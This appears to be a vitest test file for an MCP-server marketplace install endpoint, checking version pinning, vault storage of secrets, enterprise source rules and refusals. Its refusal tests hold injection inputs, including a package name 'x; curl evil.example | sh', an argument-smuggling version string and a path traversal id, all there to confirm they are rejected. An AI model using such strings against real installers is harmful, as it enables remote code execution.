import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { QuickClock } from '../../e2e/marketplace/quick_clock.ts';
import { startMarketplace } from '../../e2e/marketplace/marketplace_world.ts';
import type { RegistryServer } from '../../e2e/marketplace/registry_server.ts';
import { addUser, type InProcess } from '../../e2e/runtimes/in_process.ts';
import { errorBody } from '../../shared/wire/errors.ts';
import {
  marketplaceDetail,
  marketplaceInstallInput,
  type MarketplaceInstallInput,
  marketplaceInstallReply,
  marketplacePage,
  marketplacePreviewReply,
} from '../../shared/wire/marketplace.ts';
import { install } from './install.ts';

const MINUTE_MS = 60_000;
const SECRET = 'planted-secret-value-that-stands-nowhere';
const apiKey = { name: 'API_KEY', description: 'Key of the service', isRequired: true, isSecret: true };
const region = { name: 'REGION', description: 'Where', isRequired: false, default: 'eu' };
const npm = {
  registryType: 'npm',
  identifier: '@acme/weather',
  version: '1.2.3',
  transport: { type: 'stdio' },
  environmentVariables: [apiKey, region],
};
const remote = {
  type: 'streamable-http',
  url: 'https://weather.example.com/mcp',
  headers: [
    { name: 'Authorization', value: 'Bearer {token}', variables: { token: { isRequired: true, isSecret: true } } },
  ],
};

let registry: RegistryServer;
let control: InProcess;
let clock: QuickClock;
/** The entry of each test, and the name of its server. */
let NAME = '';
let SERVER = '';
let tests = 0;
beforeAll(async () => {
  ({ registry, control, clock } = await startMarketplace(5));
});
beforeEach(() => {
  SERVER = `weather-${(tests += 1)}`;
  NAME = `io.example.acme/${SERVER}`;
  // Replies that earlier tests got from the registry have expired.
  clock.move(16 * MINUTE_MS);
  publish({ packages: [npm], remotes: [remote] });
});
afterAll(async () => {
  await control.stop();
  await registry.stop();
});

function publish(server: Readonly<Record<string, unknown>>): void {
  const whole = { name: NAME, description: 'The weather', version: '1.2.3', ...server };
  registry.publish({ server: whole, status: 'active', updatedAt: new Date(clock.now()).toISOString() });
}

const post = (body?: unknown, id = NAME, action = 'install') =>
  control.asUser('POST', `/v1/marketplace/servers/${id}/${action}`, body);
async function installServer(body?: unknown, id = NAME) {
  const reply = await post(body, id);
  return { status: reply.status, ...marketplaceInstallReply.parse(await reply.json()) };
}
async function readRefusal(body?: unknown, id = NAME) {
  const reply = await post(body, id);
  return { status: reply.status, ...errorBody.parse(await reply.json()).error };
}
const servers = async () => (await control.asUser('GET', '/v1/mcp-servers')).text();

const rule = (sources: readonly string[] | null) => control.asUser('PUT', '/v1/mcp-rules', { sources });

test('what a rule of the enterprise stops is refused before it is asked for, and the name of an entry may be a rule', async () => {
  await rule(['registry:io.example.other/*']);
  expect(await readRefusal({ dry_run: true })).toMatchObject({ status: 403, code: 'mcp_rule' });
  await rule(['registry:io.example.acme/*']);
  const { server } = await installServer();
  expect(server).toMatchObject({ rule_problem: null });
  await rule(null);
});

test('the marketplace says what a rule does not allow, and an install uses what it allows', async () => {
  await rule(['pypi:*']);
  const refusal = expect.stringContaining('npm:@acme/weather is not on the list');
  const shown = async () =>
    marketplaceDetail.parse(await (await control.asUser('GET', `/v1/marketplace/servers/${NAME}`)).json());
  expect(await shown()).toMatchObject({
    rule_problem: refusal,
    options: [{ installable: false }, { installable: false }],
  });
  expect(marketplacePreviewReply.parse(await (await post({}, NAME, 'preview')).json()).rule_problem).toEqual(refusal);
  await rule(['host:*.example.com']);
  expect(await shown()).toMatchObject({
    rule_problem: null,
    preview: { mode: 'remote' },
    options: [{ installable: false, problem: { reason: 'mcp_rule' } }, { installable: true }],
  });
  expect((await installServer({ name: `${SERVER}-remote` })).server).toMatchObject({ mode: 'remote' });
  await control.asUser('PUT', '/v1/mcp-rules', { isolation: 'container' });
  const boxed = (await installServer({ name: `${SERVER}-boxed` })).server;
  expect(boxed).toMatchObject({ mode: 'local', isolation: 'container', rule_problem: null });
  await rule(null);
});

describe('an install', () => {
  test('prefers npm, pins the version, and refers to a credential that is stored later', async () => {
    const { status, server, required_credentials } = await installServer();
    expect(status).toBe(201);
    expect(server).toMatchObject({
      name: SERVER,
      registry_id: NAME,
      version: '1.2.3',
      status: 'stopped',
      mode: 'local',
      command: ['npx', '-y', '@acme/weather@1.2.3'],
      env: { API_KEY: `vault://mcp-servers/${server?.id}/API_KEY`, REGION: 'eu' },
    });
    expect(required_credentials).toEqual([
      { name: 'API_KEY', description: 'Key of the service', required: true, secret: true },
    ]);
    const page = await control.asUser('GET', `/v1/marketplace/servers?q=${NAME}`);
    expect(marketplacePage.parse(await page.json()).items[0]?.installed).toBe(true);
    const anonymous = await control.send(`/v1/marketplace/servers?q=${NAME}`);
    expect(marketplacePage.parse(await anonymous.json()).items[0]?.installed).toBe(false);
  });

  test('again changes nothing, and does not call the registry', async () => {
    const first = await installServer();
    await registry.stop();
    clock.move(60 * MINUTE_MS);
    const again = await installServer();
    expect([again.status, again.server?.id, again.required_credentials.map(({ name }) => name)]).toEqual([
      200,
      first.server?.id,
      ['API_KEY'],
    ]);
    await registry.start();
  });

  test('repeated concurrently creates one server', async () => {
    const all = await Promise.all([1, 2, 3, 4, 5].map(() => installServer()));
    expect(new Set(all.map(({ server }) => server?.id)).size).toBe(1);
    expect(all.filter(({ status }) => status === 201)).toHaveLength(1);
  });

  test('stores a given secret only in the vault', async () => {
    const { server, required_credentials } = await installServer({ inputs: { API_KEY: SECRET, REGION: 'us' } });
    expect(server?.env).toEqual({ API_KEY: `vault://mcp-servers/${server?.id}/API_KEY`, REGION: 'us' });
    expect(server?.credentials).toMatchObject([{ name: 'API_KEY', set: true }]);
    expect(required_credentials).toEqual([]);
    expect(await servers()).not.toContain(SECRET);
    expect((await control.databaseBytes()).includes(SECRET)).toBe(false);
  });

  test('of a remote server has its URL and the header', async () => {
    const { server, required_credentials } = await installServer({ remote: 0 });
    expect(server).toMatchObject({
      mode: 'remote',
      url: 'https://weather.example.com/mcp',
      transport: 'streamable-http',
      headers: { Authorization: `Bearer vault://mcp-servers/${server?.id}/token` },
    });
    expect(required_credentials).toMatchObject([{ name: 'token', required: true }]);
  });

  test('under another name creates another server; a name that is taken gets a number', async () => {
    await control.asUser('POST', '/v1/mcp-servers', { name: SERVER, command: ['/usr/bin/true'] });
    expect((await installServer()).server?.name).toBe(`${SERVER}-2`);
    expect((await installServer({ name: 'work' })).server?.name).toBe('work');
    expect(await readRefusal({ name: SERVER })).toMatchObject({ status: 409, code: 'name_taken' });
  });

  test('of an earlier version is pinned to that version', async () => {
    publish({ version: '2.0.0', packages: [{ ...npm, version: '2.0.0' }] });
    expect((await installServer({ version: '1.2.3' })).server?.version).toBe('1.2.3');
    expect(await readRefusal({ version: '3.0.0', name: 'other' })).toMatchObject({ status: 404 });
  });

  test('as a dry run installs nothing', async () => {
    expect(await installServer({ dry_run: true })).toMatchObject({ status: 200, server: null });
    expect(await servers()).not.toContain(NAME);
  });

  test('belongs to the caller; another user installs a server of their own', async () => {
    await installServer();
    const other = await addUser(control.context, null);
    const theirs = await install(control.context, other, NAME, {});
    expect(theirs).toMatchObject({ ok: true, value: { value: { isNew: true } } });
    const member = await addUser(control.context, other.enterpriseId);
    expect(await install(control.context, member, NAME, { owner: 'enterprise' })).toMatchObject({
      error: { code: 'admin_required' },
    });
  });
});

describe('an install is refused', () => {
  test.each([
    ['a command line in the name of the package', { identifier: 'x; curl evil.example | sh' }],
    ['a shell as its runtime', { runtimeHint: 'bash' }],
    ['an invalid version', { version: '1.0.0 --package=evil' }],
    ['an option of the runner', { runtimeArguments: [{ type: 'named', name: '--call', value: 'id' }] }],
  ])('with %s', async (_, change) => {
    publish({ packages: [{ ...npm, ...change }] });
    expect(await readRefusal()).toMatchObject({ status: 422, code: 'package_not_installable' });
    expect(await servers()).not.toContain(NAME);
  });

  test('if inputs are missing, and lists them', async () => {
    const packageArguments = [
      { type: 'positional', valueHint: 'directory', isRequired: true, description: 'Where to look' },
    ];
    publish({ packages: [{ ...npm, packageArguments }] });
    const error = await readRefusal();
    expect(error).toMatchObject({ status: 422, code: 'inputs_required', details: { inputs: [{ name: 'directory' }] } });
    expect((await installServer({ inputs: { directory: '/tmp/x' } })).server?.command).toEqual([
      'npx',
      '-y',
      '@acme/weather@1.2.3',
      '/tmp/x',
    ]);
  });

  test('if there are unknown inputs, or a reference as a value', async () => {
    expect(await readRefusal({ inputs: { NOTHING: 'x' } })).toMatchObject({ code: 'inputs_required' });
    const value = 'vault://mcp-servers/mcp_00000000000000000000000000/API_KEY';
    expect(await readRefusal({ inputs: { REGION: value } })).toMatchObject({ code: 'inputs_required' });
  });

  test('without an entry', async () => {
    expect(await readRefusal(undefined, 'io.example/none')).toMatchObject({ status: 404, code: 'not_found' });
    expect(await readRefusal(undefined, '..%2f..%2fetc')).toMatchObject({ status: 404, code: 'not_found' });
  });

  test('when the registry is down, whatever it answered before', async () => {
    await control.send(`/v1/marketplace/servers/${NAME}`);
    await registry.stop();
    expect((await installServer({ dry_run: true })).status).toBe(200);
    clock.move(16 * MINUTE_MS);
    expect(await readRefusal()).toMatchObject({ status: 502, code: 'registry_unavailable' });
    expect((await control.send(`/v1/marketplace/servers/${NAME}`)).status).toBe(200);
    await registry.start();
  });

  test.each([
    ['both a package and a remote', { package: 0, remote: 0 }],
    ['an unknown field', { command: ['sh'] }],
    ['an invalid name', { name: 'No Name' }],
  ])('with %s', async (_, body) => {
    expect(await readRefusal(body)).toMatchObject({ status: 400, code: 'invalid_input' });
  });

  test('without sign-in', async () => {
    const reply = await control.send(`/v1/marketplace/servers/${NAME}/install`, { method: 'POST' });
    expect(reply.status).toBe(401);
  });
});

test('a preview shows the command, inputs and warnings, and no secret value', async () => {
  const reply = await post({ inputs: { API_KEY: SECRET } }, NAME, 'preview');
  const text = await reply.text();
  const shown = marketplacePreviewReply.parse(JSON.parse(text));
  expect(shown.outcome).toMatchObject({
    command: ['npx', '-y', '@acme/weather@1.2.3'],
    env: { API_KEY: 'vault://mcp-servers/{id}/API_KEY', REGION: 'eu' },
  });
  expect(shown.preview.inputs.map(({ name, secret }) => [name, secret])).toEqual([
    ['API_KEY', true],
    ['REGION', false],
  ]);
  expect(text).not.toContain(SECRET);
});

test('the body of an install is optional', () => {
  const empty: MarketplaceInstallInput = marketplaceInstallInput.parse({});
  expect(empty).toEqual({});
});
